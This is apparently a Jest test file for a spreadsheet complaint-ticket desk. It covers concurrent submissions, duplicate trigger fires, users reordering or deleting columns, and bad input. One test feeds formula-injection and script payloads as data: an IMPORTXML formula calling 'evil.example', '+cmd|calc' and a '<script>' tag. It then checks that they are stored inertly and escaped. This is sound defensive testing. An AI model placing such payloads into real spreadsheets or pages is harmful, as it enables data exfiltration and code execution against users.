/** SPEC §14 for tickets: concurrency, duplicate fires, people editing the sheet, bad input. */
import { FilterCriteriaBuilder } from '../../scripts/emulator/spreadsheet/filter';
import { cellOf, documentProperties, formId, newDesk, rowsOf } from '../helpers/desk';
import { complaint, intakeAnswers, submitIntake } from '../helpers/intake';

describe('concurrent intake', () => {
  it('50 submissions within one simulated second: 50 tickets, unique consecutive IDs, nothing overwritten; a duplicate fire creates nothing', () => {
    const emu = newDesk({ lang: 'en' });
    const jobs = [];
    for (let i = 0; i < 50; i++) {
      const submitted = emu.submitForm(
        formId(emu, 'form.intake'),
        intakeAnswers(
          complaint({ customer: `Customer ${i}`, phone: `1391234${String(i).padStart(4, '0')}` }),
        ),
        { defer: true },
      );
      jobs.push(...submitted.jobs);
    }
    const results = emu.runConcurrently(jobs);
    expect(results.filter((result) => result.status === 'rejected')).toEqual([]);
    const tickets = rowsOf(emu, 'Tickets');
    expect(tickets).toHaveLength(50);
    const ids = tickets.map((ticket) => String(ticket.ID)).sort();
    expect(ids).toEqual(Array.from({ length: 50 }, (_, i) => `CMP-2026-${String(i + 1).padStart(5, '0')}`));
    const customers = new Set(tickets.map((ticket) => ticket['Customer name'] ?? ticket.Customer));
    expect(customers.size).toBe(50);

    emu.runConcurrently([jobs[7], jobs[7]]);
    expect(rowsOf(emu, 'Tickets')).toHaveLength(50);
  });

  it('a duplicate trigger fire for the same response creates nothing', () => {
    const emu = newDesk({ lang: 'en' });
    const submitted = emu.submitForm(formId(emu, 'form.intake'), intakeAnswers(complaint()), { defer: true });
    for (const job of submitted.jobs) emu.run(job.name, job.event);
    for (const job of submitted.jobs) emu.run(job.name, job.event);
    expect(rowsOf(emu, 'Tickets')).toHaveLength(1);
  });
});

describe('people editing the Tickets sheet', () => {
  it('columns reordered, a user column inserted, headers renamed into Chinese, rows sorted: intake still writes the right cells', () => {
    const emu = newDesk({ lang: 'en' });
    submitIntake(emu, complaint({ customer: 'First' }));
    submitIntake(emu, complaint({ customer: 'Zero', phone: '13900004444' }));
    const sheet = emu.spreadsheet.host().getSheetByName('Tickets');
    if (!sheet) throw new Error('no Tickets');
    sheet.getRange(2, 1, 2, sheet.getLastColumn()).sort({ column: 1, ascending: false });
    sheet.insertColumnBefore(1);
    sheet.getRange(1, 1).setValue('My notes');
    sheet.getRange(2, 1).setValue('call back Friday');
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const phone = header.indexOf('Phone') + 1;
    sheet.getRange(1, phone).setValue('联系电话');
    sheet.getRange(1, header.indexOf('Customer') + 1).setValue('客户姓名');
    const rows = sheet.getLastRow();
    const moved = sheet.getRange(1, phone, rows, 1).getValues();
    const displaced = sheet.getRange(1, 2, rows, 1).getValues();
    sheet.getRange(1, 2, rows, 1).setValues(moved);
    sheet.getRange(1, phone, rows, 1).setValues(displaced);
    submitIntake(emu, complaint({ customer: 'Second', phone: '13900001111' }));
    expect(emu.logs.filter((entry) => entry.level === 'error')).toEqual([]);
    const values = emu.spreadsheet.sheet('Tickets').values();
    const head = values[0];
    expect(values.map((row) => row[head.indexOf('ID')])).toEqual([
      'ID',
      'CMP-2026-00002',
      'CMP-2026-00001',
      'CMP-2026-00003',
    ]);
    expect(values[1][head.indexOf('My notes')]).toBe('call back Friday');
    expect(values[3][head.indexOf('My notes')]).toBe('');
    expect(values[3][head.indexOf('客户姓名')]).toBe('Second');
    expect(String(values[3][head.indexOf('联系电话')])).toBe('13900001111');
  });

  it('a filter hiding rows: intake appends below every row, edits of visible rows still follow the rules', () => {
    const emu = newDesk({ lang: 'en' });
    submitIntake(emu, complaint({ customer: 'Hidden', phone: '13900006666' }));
    submitIntake(emu, complaint({ customer: 'Visible', phone: '13900007777' }));
    const sheet = emu.spreadsheet.host().getSheetByName('Tickets');
    if (!sheet) throw new Error('no Tickets');
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const customerColumn = header.indexOf('Customer') + 1;
    sheet
      .getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn())
      .createFilter()
      .setColumnFilterCriteria(
        customerColumn,
        new FilterCriteriaBuilder().setHiddenValues(['Hidden']).build(),
      );
    expect(emu.spreadsheet.sheet('Tickets').filteredRows()).toEqual([2]);

    submitIntake(emu, complaint({ customer: 'After filter', phone: '13900008888' }));
    emu.editCells('Tickets', cellOf(emu, 'Tickets', 'Status', 3), [['In progress']]);
    const tickets = rowsOf(emu, 'Tickets');
    expect(tickets.map((ticket) => ticket.Customer)).toEqual(['Hidden', 'Visible', 'After filter']);
    expect(tickets.map((ticket) => ticket.Status)).toEqual(['New', 'In progress', 'New']);
  });

  it('rows deleted: IDs are never reused', () => {
    const emu = newDesk({ lang: 'en' });
    submitIntake(emu, complaint());
    submitIntake(emu, complaint({ phone: '13900002222' }));
    emu.spreadsheet.host().getSheetByName('Tickets')?.deleteRows(2, 2);
    submitIntake(emu, complaint({ phone: '13900003333' }));
    expect(rowsOf(emu, 'Tickets').map((ticket) => ticket.ID)).toEqual(['CMP-2026-00003']);
  });

  it('a deleted required column: the run fails with an error naming the column, and nothing is written', () => {
    const emu = newDesk({ lang: 'en' });
    const sheet = emu.spreadsheet.host().getSheetByName('Tickets');
    if (!sheet) throw new Error('no Tickets');
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    sheet.deleteColumn(header.indexOf('Status') + 1);
    const before = JSON.stringify(emu.spreadsheet.sheet('Tickets').values());
    submitIntake(emu, complaint());
    expect(JSON.stringify(emu.spreadsheet.sheet('Tickets').values())).toBe(before);
    expect(rowsOf(emu, 'History')).toHaveLength(0);
    expect(documentProperties(emu).has('ticketCounter.CMP.2026')).toBe(false);
    const failure = emu.logs.find((entry) => entry.level === 'error');
    expect(failure?.message).toMatch(/Status/);
    // The failure is in the Run log the health check shows, naming the column.
    const [logged] = rowsOf(emu, 'Run log');
    expect(Object.values(logged).join(' ')).toMatch(/Form submission/);
    expect(Object.values(logged).join(' ')).toMatch(/missing column "Status"/);
    emu.run('menuCheckSetup', undefined, { interactive: true });
    expect(JSON.stringify(emu.ui.shown.at(-1))).toMatch(/Form submission.*missing column/);
  });
});

describe('bad input is stored safely and flagged', () => {
  it('formulas, HTML, emoji, a 50,000-character description, invalid phone/email and a future date', () => {
    const emu = newDesk({ lang: 'en' });
    submitIntake(
      emu,
      complaint({
        customer: '=IMPORTXML("http://evil.example","//a")',
        phone: '+cmd|calc',
        email: 'not-an-email',
        address: '@SUM(A1)',
        description: `<script>alert(1)</script> 😀 ${'x'.repeat(50_000)}`,
        personComplained: '-1+1',
        receivedAt: '2030-01-01 10:00',
      }),
    );
    const [ticket] = rowsOf(emu, 'Tickets');
    expect(ticket['Needs review']).toBe(true);
    expect(ticket.Customer).toBe('=IMPORTXML("http://evil.example","//a")');
    const formulas = emu.spreadsheet
      .sheet('Tickets')
      .formulas()
      .flat()
      .filter((formula) => formula !== '');
    expect(formulas).toEqual([]);
    // Capped at 5,000 characters (code points: the emoji counts once).
    expect([...String(ticket.Description)].length).toBeLessThanOrEqual(5000);
    expect(String(ticket.Description)).toContain('😀');
    const note = String(ticket['Review note']);
    expect(note).toMatch(/Phone/);
    expect(note).toMatch(/Email/);
    expect(note).toMatch(/future/);
    expect(note).toMatch(/50,?0\d\d|cut/);
    const mail = emu.mail.outbox.map((message) => message.htmlBody).join('\n');
    expect(mail).not.toContain('<script>');
    expect(mail).toContain('&lt;script&gt;');
  });

  it('a manager made every question optional: an empty submission still becomes a ticket that needs review', () => {
    const emu = newDesk({ lang: 'en' });
    const form = emu.forms.get(formId(emu, 'form.intake'));
    for (const item of form?.items ?? []) item.required = false;
    submitIntake(emu, { receivedBy: 'Li Na' });
    const [ticket] = rowsOf(emu, 'Tickets');
    expect(ticket.ID).toMatch(/^CMP-2026-00001$/);
    expect(ticket['Needs review']).toBe(true);
  });
});
